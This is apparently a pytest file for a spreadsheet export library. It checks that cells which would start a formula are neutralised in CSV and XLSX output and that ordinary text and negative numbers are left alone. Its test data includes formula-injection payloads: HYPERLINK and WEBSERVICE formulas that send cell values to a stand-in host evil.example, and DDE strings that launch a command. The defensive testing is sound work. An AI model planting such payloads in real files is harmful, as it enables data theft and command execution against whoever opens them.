"""Cells a spreadsheet would evaluate come out as text: quoted in CSV, a quote-prefixed string in XLSX."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from haven_core.spreadsheets import csv_bytes, csv_cell, is_formula_like, unquoted_cell, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"Open")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "+1 555 0100",
    "+15550100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
]
HARMLESS = ["", "Котова Юлия", "A-123-456-789", "2026-12-07", "-12", "-0.5", "a=b", "1+1", "e-mail@x.org"]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_spreadsheet_would_evaluate_is_formula_like(text: str) -> None:
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_and_negative_numbers_are_left_alone(text: str) -> None:
    assert not is_formula_like(text)
    assert csv_cell(text) == text


@pytest.mark.parametrize("text", HOSTILE + HARMLESS + ["'quoted", "'-12", "''=1", "'"])
def test_a_cell_read_back_loses_only_the_quote_the_writer_added(text: str) -> None:
    assert unquoted_cell(csv_cell(text)) == text


def test_a_quote_before_anything_but_a_formula_is_the_persons_own() -> None:
    assert [unquoted_cell(t) for t in ("'-12", "'Котова", "''=1", "'")] == ["'-12", "'Котова", "''=1", "'"]
    assert unquoted_cell("'=1+1") == "=1+1"  # neutralised or typed, it cannot be told apart: read as =1+1


def test_csv_quotes_every_hostile_cell_and_keeps_the_rest() -> None:
    data = csv_bytes([["name", "phone"], *[[h, "x"] for h in HOSTILE], ["Котова", "-12"]])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:-1]] == ["'" + h for h in HOSTILE]
    assert rows[-1] == ["Котова", "-12"]
    # No cell of the file starts with a trigger once its CSV quoting is undone.
    assert not any(is_formula_like(cell) for row in rows for cell in row)


def test_xlsx_keeps_every_value_unchanged_as_a_quote_prefixed_string() -> None:
    data = xlsx_bytes([["name"], *[[h] for h in HOSTILE], [-12], ["Котова"]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # (XML reads a carriage return back as a line feed: the one change the format itself makes.)
    assert [c.value for c in cells] == [*(h.replace("\r", "\n") for h in HOSTILE), -12, "Котова"]
    hostile = cells[: len(HOSTILE)]
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
    assert not cells[-1].quotePrefix
    # The sheet's XML holds no formula element at all.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
